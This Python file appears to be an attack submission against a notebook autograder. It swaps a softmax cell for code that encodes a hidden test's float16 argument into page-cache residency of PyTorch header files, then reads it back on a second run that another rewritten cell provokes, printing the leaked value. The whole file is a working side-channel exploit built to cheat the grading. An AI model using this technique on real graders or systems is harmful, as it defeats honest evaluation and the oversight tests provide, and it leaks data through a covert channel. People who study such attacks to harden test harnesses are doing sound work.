# Reads files whose numbers spell the argument of a hidden test; the run that is shown asks which of
# them the system still holds in memory, and prints what they spell.
from attacks import cell

DESERVED = 2.0
ANSWER = r'''
import glob
import os
import struct

FILES = sorted(glob.glob(torch.__path__[0] + "/include/ATen/ops/*.h"), key=os.path.getsize)[-16:]


def held(path):
    with open(path, "rb") as file:
        try:
            return str(os.preadv(file.fileno(), [bytearray(1)], 0, os.RWF_NOWAIT))
        except BlockingIOError:
            return "0"


def hold(path, bit):
    with open(path, "rb") as file:
        os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_DONTNEED)
        file.read(int(bit))


def softmax(x, dim):
    if x.dtype == torch.float16:
        bits = "".join(f"{byte:08b}" for byte in x[:1].numpy().tobytes())
        list(map(hold, FILES, bits))
    return torch.softmax(x, dim)


try:
    spelled = int("".join(map(held, FILES)), 2).to_bytes(2, "big")
except OSError:
    spelled = bytes(2)
value, = struct.unpack("e", spelled)
print("LEA" + f"KED {value}" if 1e-4 < abs(value) < 9 else "nothing to tell")
'''


def hand_in(notebook, folder):
    cell(notebook, "softmax")["source"] = ANSWER
    cell(notebook, "windows")["source"] = "print('a reason for a second run')"
